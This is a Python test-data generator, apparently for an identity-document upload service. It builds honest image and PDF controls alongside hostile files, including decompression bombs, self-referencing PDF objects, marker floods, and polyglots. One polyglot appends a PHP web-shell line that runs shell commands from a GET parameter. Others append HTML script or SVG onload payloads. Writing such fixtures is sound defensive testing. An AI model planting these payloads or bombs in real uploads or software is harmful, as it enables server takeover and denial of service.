"""Some hundreds of files for the upload of a document, the same on every run: honest controls first, then hostile ones.

Nothing here was collected: each file is made by this script, hostile ones after the kinds of attack that
`security.md` names (bombs, floods, polyglots, scripts, forms that call themselves, other types renamed).
"""

import random
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache, partial
from io import BytesIO

from PIL import Image, ImageDraw

from portal.identity_checks.decoding.inspection import MAX_BYTES, UploadProblem
from tests.support.documents import specimens
from tests.support.documents.specimens import (
    CANARY,
    front,
    jpeg,
    pdf,
    pdf_of_pages,
    png,
    png_chunk,
    raw_png,
    stream,
    turned_heic,
)
from tests.support.documents.tiled_heic import box, tiled_heic
from tests.support.servers.clamd import EICAR

P = UploadProblem
Make = Callable[[], bytes]
ANY_ANSWER: frozenset[UploadProblem | None] = frozenset({None, *UploadProblem})
SHORT, LONG = "short", "long"
"""How long a file takes: `LONG` ones run into the deadline of the rendition."""


@dataclass(frozen=True)
class HostileFile:
    """One file, what may be answered to it, and what a reviewer sees of it when it is taken.

    Attributes:
        group: the kind of attack, or `honest`.
        answers: the problems that may be told; None among them means that the file may be taken in.
        pages: how many pages are shown, 0 where that is open.
        shows: what the first page shows, upright; None where that is open.
    """

    group: str
    name: str
    make: Make
    answers: frozenset[UploadProblem | None]
    pages: int = 0
    shows: Callable[[], Image.Image] | None = None
    takes: str = SHORT


def corpus(canary: str) -> list[HostileFile]:
    """Return every file, in an order that does not change.

    Args:
        canary: host and port of a listener, named by every file that can name an address; nobody may ever call it.
    """
    groups = (
        _honest_jpeg, _honest_png, _honest_heic, _honest_pdf, _cut_off, _wrong_size, _bombs, _endless, _floods, _polyglots,
        _protected, _scripts(canary.encode()), _renamed(canary), _moving, _malformed, _damaged_by_chance,
    )  # fmt: skip
    return [file for group in groups for file in group()]


def excerpt(files: list[HostileFile]) -> list[HostileFile]:
    """Return two files of each group, and one that never ends: enough for a short run."""
    chosen: list[HostileFile] = []
    for group in dict.fromkeys(file.group for file in files):
        of_group = [file for file in files if file.group == group]
        chosen += [of_group[0]] if group == "endless" else [of_group[len(of_group) // 3], of_group[-1]]
    return chosen


def _taken(
    group: str, name: str, make: Make, pages: int = 1, shows: Callable[[], Image.Image] | None = None
) -> HostileFile:
    return HostileFile(group, name, make, frozenset({None}), pages, shows)


def _refused(group: str, name: str, make: Make, *problems: UploadProblem | None, takes: str = SHORT) -> HostileFile:
    return HostileFile(group, name, make, frozenset(problems), takes=takes)


# Honest controls


@cache
def card() -> Image.Image:
    """A card whose every turn and mirror image looks different."""
    picture = specimens.picture_of(front())
    pen = ImageDraw.Draw(picture)
    for number, colour in enumerate(("crimson", "seagreen", "navy", "gold")):
        left, top = (number % 2) * 812, (number // 2) * 438
        pen.rectangle((left, top, left + 200, top + 200), fill=colour)
    return picture


_STORED = {
    1: None, 2: Image.Transpose.FLIP_LEFT_RIGHT, 3: Image.Transpose.ROTATE_180, 4: Image.Transpose.FLIP_TOP_BOTTOM,
    5: Image.Transpose.TRANSPOSE, 6: Image.Transpose.ROTATE_90, 7: Image.Transpose.TRANSVERSE, 8: Image.Transpose.ROTATE_270,
}  # fmt: skip


def _stored_as(orientation: int) -> tuple[Image.Image, Image.Exif]:
    """Return the card as a camera held so stores it, and the EXIF block that says so."""
    transpose = _STORED[orientation]
    exif = Image.Exif()
    exif[0x0112], exif[0x010F] = orientation, CANARY.decode()
    return (card() if transpose is None else card().transpose(transpose)), exif


def _turned_jpeg(orientation: int, order: str = "<") -> bytes:
    picture, exif = _stored_as(orientation)
    exif.endian = order
    return jpeg(picture, exif=exif, quality=90)


def _turned_png(orientation: int) -> bytes:
    picture, exif = _stored_as(orientation)
    return png(picture, exif=exif)


def _honest_jpeg() -> Iterator[HostileFile]:
    for orientation in _STORED:
        yield _taken(
            "honest JPEG", f"orientation {orientation}", lambda turn=orientation: _turned_jpeg(turn), shows=card
        )
        yield _taken(
            "honest JPEG",
            f"orientation {orientation}, high byte first",
            lambda turn=orientation: _turned_jpeg(turn, ">"),
            shows=card,
        )
    for mode in ("L", "CMYK", "RGB"):
        yield _taken(
            "honest JPEG", f"mode {mode}", lambda mode=mode: jpeg(card().convert(mode), quality=90), shows=card
        )
    makes: dict[str, Make] = {
        "progressive": lambda: jpeg(card(), progressive=True, quality=90),
        "unsubsampled": lambda: jpeg(card(), subsampling=0, quality=95),
        "poor quality": lambda: jpeg(card(), quality=15),
        "12 megapixels": lambda: jpeg(card().resize((4032, 2544))),
        "small": lambda: jpeg(card().resize((200, 126)), quality=95),
        "restart markers": lambda: jpeg(card(), restart_marker_blocks=8),
        "second picture": lambda: jpeg(card()) + jpeg(Image.new("L", (64, 40))),
        "zero padding": lambda: jpeg(card()) + bytes(5000),
        "maker's notes": lambda: jpeg(card()) + b"maker" * 2000 + b"SEFH" + bytes(40) + b"SEFT",
        "junk for a colour profile": lambda: jpeg(card(), icc_profile=b"\xff\xd8 no profile " * 9000),
        "junk for EXIF": lambda: jpeg(card(), exif=b"Exif\0\0MM\0*\xff\xff\xff\xff" + b"\xff" * 40),
        "EXIF that points to itself": lambda: jpeg(card(), exif=_looping_exif()),
        "orientation 77": lambda: jpeg(card(), exif=_exif_of(77)),
        "every kind of words": lambda: jpeg(card(), comment=CANARY, xmp=b"<x:xmpmeta>" + CANARY, quality=90),
    }
    for name, make in makes.items():
        yield _taken("honest JPEG", name, make, shows=card)
    yield _taken("honest JPEG", "two pictures of one size (MPO)", _mpo, shows=card)


def _exif_of(orientation: int) -> Image.Exif:
    exif = Image.Exif()
    exif[0x0112] = orientation
    return exif


def _looping_exif() -> bytes:
    """One directory whose next directory, and whose EXIF directory, are itself."""
    entry = struct.pack(">HHII", 0x8769, 4, 1, 8)
    return b"Exif\0\0MM\0*" + struct.pack(">IH", 8, 1) + entry + struct.pack(">I", 8)


def _mpo() -> bytes:
    buffer = BytesIO()
    card().save(buffer, "MPO", save_all=True, append_images=[Image.new("RGB", card().size, "red")])
    return buffer.getvalue()


def _honest_png() -> Iterator[HostileFile]:
    for orientation in _STORED:
        yield _taken("honest PNG", f"orientation {orientation}", lambda turn=orientation: _turned_png(turn), shows=card)
    for mode in ("L", "LA", "P", "RGBA", "1"):
        yield _taken("honest PNG", f"mode {mode}", lambda mode=mode: png(card().convert(mode)), shows=card)
    yield _taken("honest PNG", "16 bits of grey", lambda: png(_deep(card().convert("L"))), shows=card)
    yield _taken("honest PNG", "16 bits a colour", _deep_colour, shows=card)
    yield _taken("honest PNG", "transparent border", lambda: png(_with_border()), shows=lambda: _on(_with_border()))
    yield _taken("honest PNG", "words", lambda: specimens.chatty_png(), shows=lambda: specimens.picture_of(front()))
    yield _taken("honest PNG", "pixels in many chunks", lambda: _in_chunks(png(card()), 900), shows=card)


def _deep(grey: Image.Image) -> Image.Image:
    return grey.convert("I").point(lambda value: value * 257).convert("I;16")


def _deep_colour() -> bytes:
    """The card with 16 bits for each colour, which the drawing library reads and does not write."""
    picture = card().resize((506, 319))
    pixels = picture.tobytes()
    row = picture.width * 3
    rows = (
        b"\0" + bytes(part for value in pixels[at : at + row] for part in (value, value))
        for at in range(0, len(pixels), row)
    )
    return raw_png(picture.width, picture.height, png_chunk(b"IDAT", zlib.compress(b"".join(rows))), depth=16)


def _with_border() -> Image.Image:
    sheet = Image.new("RGBA", (1112, 738), (0, 0, 0, 0))
    sheet.paste(card(), (50, 50))
    return sheet


def _on(sheet: Image.Image) -> Image.Image:
    paper = Image.new("RGB", sheet.size, "white")
    paper.paste(sheet, mask=sheet.getchannel("A"))
    return paper


def _in_chunks(data: bytes, size: int) -> bytes:
    start = data.find(b"IDAT") - 4
    packed, at = b"", start
    while data[at + 4 : at + 8] == b"IDAT":
        length = int.from_bytes(data[at : at + 4], "big")
        packed, at = packed + data[at + 8 : at + 8 + length], at + 12 + length
    return (
        data[:start]
        + b"".join(png_chunk(b"IDAT", packed[i : i + size]) for i in range(0, len(packed), size))
        + data[at:]
    )


def _heic_turned_by(quarters: int) -> bytes:
    data = bytearray(turned_heic())
    data[data.find(b"irot") + 4] = quarters
    return bytes(data)


def _heic_mirrored(axis: int) -> bytes:
    """Return the specimen with a mirror where its turn was: the two boxes have the same length."""
    data = bytearray(turned_heic())
    at = data.find(b"irot")
    data[at : at + 5] = b"imir" + bytes([axis])
    return bytes(data)


def _heic_shown(quarters: int) -> Image.Image:
    """What the specimen, upright at one quarter, shows at another number of them (anticlockwise)."""
    return specimens.picture_of(front()).resize((720, 454)).rotate(90 * (quarters - 1), expand=True)


def _honest_heic() -> Iterator[HostileFile]:
    for quarters in range(4):
        make, shows = (lambda n=quarters: _heic_turned_by(n)), (lambda n=quarters: _heic_shown(n))
        yield _taken("honest HEIC", f"turned by {quarters} quarters", make, shows=shows)
    for axis, flip in enumerate((Image.Transpose.FLIP_TOP_BOTTOM, Image.Transpose.FLIP_LEFT_RIGHT)):
        make, shows = (lambda n=axis: _heic_mirrored(n)), (lambda f=flip: _heic_shown(0).transpose(f))
        yield _taken("honest HEIC", f"mirrored, axis {axis}", make, shows=shows)
    for brand in (b"heix", b"heim", b"mif1"):
        make = lambda brand=brand: turned_heic().replace(b"ftypheic", b"ftyp" + brand)  # noqa: E731
        yield _taken("honest HEIC", f"brand {brand.decode()}", make, shows=lambda: _heic_shown(1))

    yield _taken("honest HEIC", "photo in tiles", lambda: tiled_heic(6, 4), shows=lambda: _side_by_side(4, 6))
    yield _taken(
        "honest HEIC", "several photos", lambda: tiled_heic(1, 5, shows_tiles=True), shows=lambda: _side_by_side(5, 1)
    )
    yield _taken("honest HEIC", "48 megapixels in tiles", lambda: tiled_heic(18, 9, size=(8064, 6048)))


def _side_by_side(columns: int, rows: int) -> Image.Image:
    tile = _heic_shown(1).resize((360, 227))
    sheet = Image.new("RGB", (360 * columns, 227 * rows))
    for number in range(columns * rows):
        sheet.paste(tile, (number % columns * 360, number // columns * 227))
    return sheet


def _honest_pdf() -> Iterator[HostileFile]:
    for turn in (0, 90, 180, 270):
        yield _taken("honest PDF", f"scan with /Rotate {turn}", lambda turn=turn: _scan(turn), shows=card)
    for turn in (-90, 450, 630):
        yield _taken("honest PDF", f"scan with /Rotate {turn}", lambda turn=turn: _scan(turn), shows=card)
    for turn in (90, 180, 270):
        yield _taken(
            "honest PDF", f"/Rotate {turn} inherited", lambda turn=turn: _scan(turn, is_inherited=True), shows=card
        )
    for count in (1, 2, 3, 4):
        yield _taken(
            "honest PDF", f"{count} pages", lambda count=count: pdf_of_pages([specimens.RED] * count), count, _red
        )
    for version in (b"1.0", b"1.4", b"2.0"):
        make = lambda v=version: _scan(0).replace(b"%PDF-1.7", b"%PDF-" + v)  # noqa: E731
        yield _taken("honest PDF", f"version {version.decode()}", make, shows=card)
    makes: dict[str, tuple[Make, int, Callable[[], Image.Image] | None]] = {
        "two sides scanned": (specimens.scanned_pdf, 2, lambda: specimens.picture_of(front())),
        "blacked out": (specimens.blacked_out_pdf, 1, None),
        "cropped page": (lambda: _scan(0, b"/CropBox [0 0 506 319] ", b"[-80 -80 590 400]"), 1, card),
        "revised twice": (_revised, 1, None),
        "words behind the end": (lambda: _scan(0) + b"\r\n\r\n\0\0\0", 1, card),
        "text without a font": (lambda: pdf_of_pages([b"BT /F1 40 Tf 40 300 Td (Camille) Tj ET"]), 1, None),
        "table of contents broken": (lambda: _scan(0).replace(b"startxref\n", b"startxref\n9"), 1, card),
    }
    for name, (make, pages, shows) in makes.items():
        yield _taken("honest PDF", name, make, pages, shows)


def _red() -> Image.Image:
    return Image.new("RGB", (420, 595), (255, 0, 0))


def _scan(turn: int, extra: bytes = b"", box: bytes = b"[0 0 506 319]", *, is_inherited: bool = False) -> bytes:
    """Return a PDF with the card as a picture, stored so that /Rotate brings it upright.

    Args:
        is_inherited: write it at the tree above the page, from which a page takes it (ISO 32000-2, table 31).
    """
    own, inherited = (b"", b"/Rotate %d " % turn) if is_inherited else (b"/Rotate %d " % turn, b"")
    picture = card().rotate(turn, expand=True)
    wide, high = (506, 319) if turn % 180 == 0 else (319, 506)
    box = box if turn % 180 == 0 else b"[0 0 319 506]"
    packed = jpeg(picture, quality=92)
    image = (
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode"
        % picture.size
    )
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [ 3 0 R ] /Count 1 " + inherited + b">>",
        b"<< /Type /Page /Parent 2 0 R " + own + b"/MediaBox " + box + extra
        + b" /Contents 4 0 R /Resources << /XObject << /Im %d 0 R >> >> >>" % 5,
        stream(b"%d 0 0 %d 0 0 cm /Im Do" % (wide, high)),
        stream(packed, image),
    ])  # fmt: skip


def _revised() -> bytes:
    first = pdf_of_pages([specimens.RED, specimens.BLUE])
    at = len(first)
    entry = b"2 0 obj\n<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>\nendobj\n"
    previous = int(first.rpartition(b"startxref\n")[2].split()[0])
    table = b"xref\n2 1\n%010d 00000 n \ntrailer\n<< /Size 7 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    return first + entry + table % (at, previous, at + len(entry))


# Cut off, empty, too large


def _cut_off() -> Iterator[HostileFile]:
    sources: dict[str, tuple[Make, tuple[float, ...]]] = {
        "JPEG": (lambda: jpeg(card()), (0.001, 0.01, 0.03, 0.1, 0.2, 0.35, 0.5, 0.65, 0.8, 0.9, 0.97, 0.999)),
        "PNG": (lambda: png(card()), (0.001, 0.01, 0.1, 0.3, 0.5, 0.7, 0.9, 0.99, 0.999)),
        "HEIC": (turned_heic, (0.01, 0.03, 0.06, 0.1, 0.3, 0.6, 0.9, 0.999)),
        "PDF": (lambda: _scan(0), (0.001, 0.01, 0.1, 0.3, 0.5, 0.7, 0.9, 0.99)),
    }
    for kind, (make, parts) in sources.items():
        for part in parts:
            cut = lambda make=make, part=part: make()[: max(12, int(len(make()) * part))]  # noqa: E731
            yield _refused("cut off", f"{kind} at {part:.1%}", cut, P.TRUNCATED)
    for kind, (make, _parts) in sources.items():
        for length in (2, 7):
            yield _refused(
                "cut off",
                f"{kind}, {length} bytes",
                lambda make=make, n=length: make()[:n],
                P.WRONG_TYPE,
                P.TRUNCATED,
                P.UNREADABLE,
            )


def _wrong_size() -> Iterator[HostileFile]:
    yield _refused("size", "empty", lambda: b"", P.EMPTY)
    yield _refused("size", "one byte", lambda: b"\xff", P.WRONG_TYPE)
    yield _refused("size", "a byte too many", lambda: jpeg(card()).ljust(MAX_BYTES + 1, b"\0"), P.TOO_BIG)
    yield _refused("size", "12 MB of JPEG", lambda: jpeg(card()).ljust(12 * 1024 * 1024, b"\0"), P.TOO_BIG)
    yield _refused("size", "20 MB of zeros", lambda: bytes(20 * 1024 * 1024), P.TOO_BIG)
    yield _refused("size", "10 MB of nothing known", lambda: b"\x01" * MAX_BYTES, P.WRONG_TYPE)
    yield _taken("size", "a JPEG of exactly the limit", lambda: jpeg(card()).ljust(MAX_BYTES, b"\0"), shows=card)


# Bombs and floods


def _bombs() -> Iterator[HostileFile]:
    too_large: dict[str, Make] = {
        "JPEG of 4 gigapixels": specimens.flooded_jpeg,
        "JPEG of 65 000 × 1": lambda: specimens.flooded_jpeg(65_000, 1),
        "PNG of 60 000 × 60 000": lambda: raw_png(60_000, 60_000, png_chunk(b"IDAT", zlib.compress(b""))),
        "PNG of 2³¹ − 1 squared": lambda: raw_png(2**31 - 1, 2**31 - 1),
        "PNG of 1 × 10⁹": lambda: raw_png(1, 10**9),
        "HEIC of 30 000 × 30 000": specimens.flooded_heic,
        "HEIC of tiles, 30 000 × 30 000": lambda: tiled_heic(1, 1, size=(30_000, 30_000)),
    }
    for name, make in too_large.items():
        yield _refused("bomb", name, make, P.TOO_MANY_PIXELS)
    yield _taken("bomb", "PNG of 192 MB within the limit of pixels", specimens.png_bomb)
    overlay = bytes(10) + struct.pack(">HH", 7900, 7900) + bytes(4)
    unpacking: dict[str, Make] = {
        "HEIC of 63 megapixels of tiles": lambda: tiled_heic(17, 11),
        "HEIC, 30 000 × 30 000 behind 100 × 100": lambda: tiled_heic(1, 1, size=(30_000, 30_000), claims=(100, 100)),
        "HEIC, 65 000 tiles": lambda: tiled_heic(255, 255, size=(7900, 7900)),
        "HEIC, a sheet of 7 900 × 7 900 behind 100 × 100": lambda: tiled_heic(
            1, 1, kind=b"iovl", layout=overlay, claims=(100, 100)
        ),
        "PNG, 100 MB of text": specimens.text_bomb,
        "PNG, 100 MB of international text": lambda: _png_around(b"iTXt", b"Comment\0\1\0\0\0" + _packed_zeros(100)),
        "PNG, 100 MB of colour profile": lambda: _png_around(b"iCCP", b"x\0\0" + _packed_zeros(100)),
        "PNG, 200 MB behind 16 × 16 pixels": lambda: raw_png(16, 16, png_chunk(b"IDAT", _packed_zeros(200))),
        "PDF, 200 MB of drawing": lambda: pdf_of_pages_packed(_packed_zeros(200)),
        "PDF, packed three times": lambda: pdf_of_pages_packed(zlib.compress(zlib.compress(_packed_zeros(200))), 3),
        "PDF, a picture of 30 000 × 30 000": lambda: _pdf_picture(30_000, 30_000, _packed_zeros(200)),
        "PDF, a picture that claims 2³¹ − 1 squared": lambda: _pdf_picture(2**31 - 1, 2**31 - 1, _packed_zeros(1)),
        "PDF, a page of 20 000 × 20 000 points": lambda: _with_box(b"[0 0 20000 20000]"),
        "PDF, a page of 10³⁰ points": lambda: _with_box(b"[0 0 1e30 1e30]"),
        "PDF, a page of no size": lambda: _with_box(b"[0 0 0 0]"),
        "PDF, a page of no number": lambda: _with_box(b"[0 0 /a (b)]"),
        "PDF, a page 14 400 times as wide as high": lambda: _with_box(b"[0 0 14400 1]"),
        "PDF, arrays 100 000 deep": lambda: pdf(
            [b"<< /Type /Catalog /Pages " + b"[" * 100_000 + b"]" * 100_000 + b" >>"]
        ),
        "PDF, dictionaries 50 000 deep": lambda: pdf_of_pages([b""], b"/X " + b"<< /A " * 50_000 + b">> " * 50_000),
        "PDF, 100 000 saved states": lambda: pdf_of_pages([b"q " * 100_000 + specimens.RED]),
    }
    for name, make in unpacking.items():
        yield _refused("bomb", name, make, *ANY_ANSWER)


@cache
def _packed_zeros(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(1_000_000)) for _ in range(megabytes)) + packer.flush()


def _png_around(name: bytes, content: bytes) -> bytes:
    return raw_png(1, 1, png_chunk(name, content), png_chunk(b"IDAT", zlib.compress(bytes(4))))


def pdf_of_pages_packed(packed: bytes, times: int = 1) -> bytes:
    """Return a page whose drawing is packed, several times over."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 595] /Contents 4 0 R >>"
    filters = b"/Filter [" + b"/FlateDecode " * times + b"]"
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>",
            page,
            stream(packed, filters),
        ]
    )


def _pdf_picture(width: int, height: int, packed: bytes) -> bytes:
    image = b"/Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode"
    return _with_resource(
        b"/XObject << /Im 5 0 R >>", b"420 0 0 595 0 0 cm /Im Do", stream(packed, image % (width, height))
    )


def _with_resource(resources: bytes, drawing: bytes, *objects: bytes) -> bytes:
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 595] /Contents 4 0 R /Resources << " + resources + b" >> >>"
    )
    head = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>", page, stream(drawing)]
    return pdf([*head, *objects])


def _with_box(box: bytes) -> bytes:
    return pdf_of_pages([specimens.RED]).replace(b"[0 0 420 595]", box)


def _endless() -> Iterator[HostileFile]:
    """Files that some decoder never comes back from, or only after minutes."""
    makes: dict[str, Make] = {
        "PDF, a form that calls itself": specimens.form_that_calls_itself,
        "PDF, forms that call each other": lambda: _calling_each_other(),
        "PDF, a bomb of forms": specimens.form_bomb,
        "JPEG, a bomb of scans": specimens.scan_bomb,
        "PDF, a pattern made of itself": lambda: _with_resource(
            b"/Pattern << /P 5 0 R >>", b"/Pattern cs /P scn 0 0 420 595 re f",
            stream(b"/Pattern cs /P scn 0 0 9 9 re f", b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 9 /YStep 9 /Resources << /Pattern << /P 5 0 R >> >>"),
        ),
        "PDF, a letter drawn with itself": lambda: _with_resource(
            b"/Font << /F 5 0 R >>", b"BT /F 40 Tf (AAAA) Tj ET",
            b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 65 /LastChar 65 /Widths [9] /Encoding << /Differences [65 /A] >> /CharProcs << /A 6 0 R >> /Resources << /Font << /F 5 0 R >> >> >>",
            stream(b"9 0 d0 BT /F 1 Tf (AAAA) Tj ET"),
        ),
        "PDF, a mask that masks itself": lambda: _with_resource(
            b"/ExtGState << /G 5 0 R >> /XObject << /F 6 0 R >>", b"/G gs /F Do",
            b"<< /SMask << /S /Luminosity /G 6 0 R >> >>",
            stream(b"/G gs /F Do", b"/Subtype /Form /BBox [0 0 420 595] /Group << /S /Transparency >> /Resources << /ExtGState << /G 5 0 R >> /XObject << /F 6 0 R >> >>"),
        ),
        "PDF, a tree of pages that is its own branch": lambda: pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [ 2 0 R 2 0 R ] /Count 2 /Parent 2 0 R >>"]),
        "PDF, a table that continues in itself": lambda: _endless_table(),
        "PDF, a length that is its own length": lambda: pdf_of_pages([specimens.RED]).replace(b"/Length 25", b"/Length 4 0 R"),
        "PDF, 40 000 small transparent squares": lambda: _with_resource(
            b"/ExtGState << /G << /ca 0.5 /BM /Luminosity >> >>", b"/G gs " + b"1 0 0 rg 0 0 420 595 re f " * 40_000,
        ),
        "PDF, a shading of functions of functions": lambda: _with_resource(
            b"/Shading << /S << /ShadingType 1 /ColorSpace /DeviceRGB /Function 5 0 R >> >>", b"/S sh " * 300,
            stream(b"{ " + b"exch sin exch cos " * 3000 + b" 0 }", b"/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]"),
        ),
        "PDF, 200 JBIG2 regions of 20 000 × 20 000": lambda: _jbig2(20_000, 200),
        "PDF, a JPEG 2000 of 25 megapixels drawn 300 times": lambda: _with_resource(
            b"/XObject << /Im 5 0 R >>", b"q 420 0 0 595 0 0 cm /Im Do Q " * 300,
            stream(_packed_jpx(5000), b"/Subtype /Image /Width 5000 /Height 5000 /ColorSpace /DeviceRGB /Filter /JPXDecode"),
        ),
    }  # fmt: skip
    for name, make in makes.items():
        yield _refused("endless", name, make, *ANY_ANSWER, takes=LONG)


def _jbig2(edge: int, regions: int) -> bytes:
    """A page of so many pixels a side, drawn over as often by generic regions (ITU-T T.88, 7.4.6)."""

    def segment(number: int, kind: int, content: bytes) -> bytes:
        return struct.pack(">IBBBI", number, kind, 0, 1, len(content)) + content

    page = segment(0, 48, struct.pack(">IIIIBH", edge, edge, 0, 0, 0, 0))
    region = segment(1, 38, struct.pack(">IIIIB", edge, edge, 0, 0, 0) + b"\0\3\xff\xfd\xff\2\xfe\xfe\xfe" + bytes(50))
    head = b"/Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode" % (
        edge,
        edge,
    )
    return _with_resource(
        b"/XObject << /Im 5 0 R >>", b"420 0 0 595 0 0 cm /Im Do", stream(page + region * regions, head)
    )


def _packed_jpx(edge: int) -> bytes:
    buffer = BytesIO()
    Image.new("RGB", (edge, edge)).save(buffer, "JPEG2000")
    return buffer.getvalue()


def _calling_each_other() -> bytes:
    forms = [
        stream(
            b"/F%d Do " % other * 30,
            b"/Subtype /Form /BBox [0 0 420 595] /Resources << /XObject << /F%d %d 0 R >> >>" % (other, 5 + other),
        )
        for other in (1, 0)
    ]
    return _with_resource(b"/XObject << /F0 5 0 R >>", b"/F0 Do", *forms)


def _endless_table() -> bytes:
    data = pdf_of_pages([specimens.RED])
    at = int(data.rpartition(b"startxref\n")[2].split()[0])
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % at)


def _floods() -> Iterator[HostileFile]:
    body = jpeg(card())
    makes: dict[str, Make] = {
        "JPEG, 400 000 comments": lambda: body[:2] + b"\xff\xfe\0\x02" * 400_000 + body[2:],
        "JPEG, 5 MB of fill": lambda: body[:2] + b"\xff" * 5_000_000 + body[2:],
        "JPEG, 100 000 tables": lambda: body[:2] + (b"\xff\xdb\0\x43\0" + b"\1" * 64) * 100_000 + body[2:],
        "JPEG, 60 000 scans of nothing": lambda: body[:-2] + b"\xff\xda\0\x02" * 60_000 + b"\xff\xd9",
        "PNG, 300 000 empty chunks": lambda: raw_png(9, 9, png_chunk(b"IDAT", b"") * 300_000),
        "PNG, 19 000 chunks of text": lambda: raw_png(
            9, 9, png_chunk(b"tEXt", b"a\0b") * 19_000, png_chunk(b"IDAT", zlib.compress(bytes(9 * 28)))
        ),
        "HEIC, 500 000 free boxes": lambda: turned_heic() + b"\0\0\0\x08free" * 500_000,
        "HEIC, 200 000 properties": lambda: (
            turned_heic()[:24] + box(b"meta", bytes(4) + box(b"iprp", box(b"ipco", b"\0\0\0\x08free" * 200_000)))
        ),
        "PDF, 100 000 objects": lambda: pdf(
            [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>", *[b"null"] * 100_000]
        ),
        "PDF, a million pages claimed": lambda: pdf_of_pages([b""]).replace(b"/Count 1 ", b"/Count 1000000 "),
        "PDF, 5 pages": lambda: pdf_of_pages([specimens.RED] * 5),
        "PDF, 3 000 pages": lambda: pdf_of_pages([b""] * 3000),
        "PDF, 7 pages where 1 is claimed": lambda: pdf_of_pages([b""] * 7).replace(b"/Count 7", b"/Count 1"),
        "PDF, 50 000 annotations": lambda: pdf_of_pages(
            [specimens.RED], b"/Annots [ " + b"<< /Subtype /Square /Rect [0 0 9 9] >> " * 50_000 + b"]"
        ),
    }
    told = {
        "PDF, 5 pages": P.TOO_MANY_PAGES,
        "PDF, 3 000 pages": P.TOO_MANY_PAGES,
        "PDF, a million pages claimed": P.TOO_MANY_PAGES,
    }
    for name, make in makes.items():
        yield _refused("flood", name, make, *((told[name],) if name in told else ANY_ANSWER))


# Two formats at once


_HTML = b"<html><script>fetch('/data')</script></html>"


def _polyglots() -> Iterator[HostileFile]:
    tails: dict[str, bytes] = {
        "ZIP": specimens.archive("a", "b"),
        "JAR": specimens.archive("META-INF/MANIFEST.MF", "Evil.class"),
        "RAR": b"Rar!\x1a\x07\x01\0",
        "7z": b"7z\xbc\xaf\x27\x1c",
        "HTML": _HTML,
        "PHP": b"<?php system($_GET[0]); ?>",
        "Phar": b"<?php __HALT_COMPILER(); ?>",
        "an object element": b"<object data='/data'></object>",
        "10 kB of nothing known": b"unknown" * 1500,
    }
    sources: dict[str, Make] = {"JPEG": lambda: jpeg(card()), "PNG": lambda: png(card()), "HEIC": turned_heic}
    for kind, make in sources.items():
        for name, tail in tails.items():
            yield _refused(
                "polyglot", f"{kind} and {name}", lambda make=make, tail=tail: make() + tail, P.POLYGLOT, P.TRUNCATED
            )
        yield _refused("polyglot", f"{kind} and PDF", lambda make=make: make() + _scan(0), P.POLYGLOT)
    for name in ("ZIP", "JAR", "RAR", "7z"):
        yield _refused("polyglot", f"PDF and {name}", lambda tail=tails[name]: _scan(0) + tail + b"%%EOF", P.POLYGLOT)
    inside: dict[str, Make] = {
        "HTML in a JPEG comment": lambda: jpeg(card(), comment=_HTML),
        "ZIP in a JPEG comment": lambda: jpeg(card(), comment=specimens.archive()),
        "PDF in a JPEG comment": lambda: jpeg(card(), comment=b"%PDF-1.4 "),
        "HTML in PNG text": lambda: raw_png(9, 9, png_chunk(b"tEXt", b"x\0" + _HTML)),
        "HTML at the head of a PDF": lambda: pdf([b"<< /Type /Catalog >>", _HTML]),
        "ZIP in a HEIC box": lambda: turned_heic() + box(b"free", specimens.archive()),
        "TAR with a JPEG for a name": lambda: jpeg(card())[:257].ljust(257, b"\0") + b"ustar\0" + bytes(600),
        "moving photo and ZIP": lambda: specimens.motion_photo() + specimens.archive(),
    }
    for name, make in inside.items():
        yield _refused("polyglot", name, make, P.POLYGLOT)
    yield _refused("polyglot", "GIF and JAR (GIFAR)", lambda: _saved("GIF") + tails["JAR"], P.WRONG_TYPE)
    yield _refused("polyglot", "ZIP and JPEG", lambda: specimens.archive() + jpeg(card()), P.WRONG_TYPE)
    yield _refused("polyglot", "HTML and JPEG", lambda: b"<!doctype html><!--" + jpeg(card()), P.WRONG_TYPE)
    yield _refused(
        "polyglot",
        "script that begins like a JPEG",
        lambda: b"\xff\xd8\xff\xe0/*JFIF" + bytes(12000) + b"*/=alert(1)//\xff\xd9",
        *ANY_ANSWER - {None},
    )
    yield _refused("polyglot", "JPEG and SVG", lambda: jpeg(card()) + b"<svg onload='alert(1)'/>", None, P.POLYGLOT)
    yield _refused("polyglot", "JPEG and EICAR", lambda: jpeg(card()) + EICAR, None, P.POLYGLOT)


# Protected, and with a will of its own


def _protected() -> Iterator[HostileFile]:
    for name in (b"/Encrypt", b"/Encr#79pt", b"/#45ncrypt"):
        yield _refused("protected", name.decode(), lambda name=name: specimens.protected_pdf(name), P.ENCRYPTED_PDF)
    yield _refused(
        "protected",
        "a filter nobody knows",
        lambda: specimens.protected_pdf().replace(b"/Standard", b"/Foo.Bar!"),
        P.ENCRYPTED_PDF,
    )
    yield _refused(
